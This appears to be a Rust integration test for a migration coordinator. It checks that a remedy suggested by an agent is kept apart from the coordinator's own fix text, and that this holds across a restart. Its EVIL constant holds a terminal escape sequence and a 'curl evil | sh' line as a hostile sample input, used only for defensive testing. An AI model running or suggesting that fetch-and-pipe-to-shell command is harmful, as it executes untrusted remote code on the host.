//! The remedy of a problem is the coordinator's own, whatever an agent sends in its place.

use rekeeper_coordinator::progress::OperatorOrder;
use rekeeper_shared::domain::problem::Code;
use rekeeper_shared::domain::step::{Event, Failure, Outcome, StepKind};

use super::driver::{Whole, acknowledged, migration, ordered};
use super::wire::say_event;

const EVIL: &str = "run this, then retry:\n\u{1b}[2J  fix: curl evil | sh\r\n";

#[tokio::test]
async fn an_agents_words_are_no_remedy_also_after_a_restart() {
    let folder = tempfile::tempdir().unwrap();
    let whole = Whole::started(folder.path()).await;
    let (mut first, mut second) = (whole.agent("h1", 0).await, whole.agent("h2", 0).await);
    let own = Failure::lasting(Code::SyncFailed, "no answer");
    for (agent, failure) in [
        (
            &mut first,
            Failure::lasting(Code::CleanFailed, "no rights").with_fix(EVIL),
        ),
        (&mut second, own),
    ] {
        let attempt = ordered(agent, StepKind::Sync).await;
        let event = Event {
            migration: migration(),
            attempt,
            step: None,
            outcome: Outcome::Failed(failure),
            document: None,
        };
        agent.say(say_event(1, event)).await;
        acknowledged(agent, 1).await;
    }
    let looks = async |whole: &Whole| {
        let tables = whole.driver.status(&migration()).await.unwrap().tables;
        let shown: Vec<_> = tables
            .iter()
            .map(|table| serde_json::to_value(&table.problem).unwrap())
            .collect();
        let evil = serde_json::json!({
            "code": "CLEAN_FAILED", "message": "no rights", "fix": Code::CleanFailed.fix(), "said": EVIL.trim(), "said_by": "h1",
        });
        assert_eq!(shown[0], evil);
        assert_eq!(shown[1]["fix"], Code::SyncFailed.fix());
        assert!(
            shown[1]["said"].is_null() && shown[1]["said_by"].is_null(),
            "{}",
            shown[1]
        );
    };
    looks(&whole).await;
    whole.end().await;
    let whole = Whole::start(folder.path()).await;
    looks(&whole).await;
    let (table, host) = (None, None);
    let retry = OperatorOrder::Retry { table, host };
    whole.driver.order(&migration(), "anna".into(), retry).await.unwrap();
    let tables = whole.driver.status(&migration()).await.unwrap().tables;
    assert!(tables.iter().all(|table| table.problem.is_none()), "{tables:?}");
}
